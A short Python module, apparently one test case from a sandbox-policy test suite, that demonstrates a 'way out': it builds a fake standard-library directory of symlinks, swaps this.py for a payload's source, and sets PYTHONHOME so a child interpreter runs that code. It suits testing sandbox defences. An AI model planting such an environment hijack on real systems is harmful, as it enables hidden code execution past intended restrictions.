"""PYTHONHOME is planted: the child has another standard library."""
CATEGORY = "ways out"
REACH = "net"
POLICIES = ("baseline", "deny")
GRANT = {"env": True, "read": True, "write": True}
SILENT = "The variable is in the package's own view, and in nobody else's."

import os

from . import payload


def attack():
    import encodings
    root = payload.ROOT + "/tmp/home"
    there = os.path.dirname(os.path.dirname(encodings.__file__))
    os.makedirs(root + "/lib")
    os.mkdir(f"{root}/lib/{payload.LIBRARY}")
    for file in os.listdir(there):
        os.symlink(f"{there}/{file}", f"{root}/lib/{payload.LIBRARY}/{file}")
    os.remove(f"{root}/lib/{payload.LIBRARY}/this.py")
    with open(f"{root}/lib/{payload.LIBRARY}/this.py", "w") as file:
        file.write(payload.SOURCE)
    os.environ["PYTHONHOME"] = root
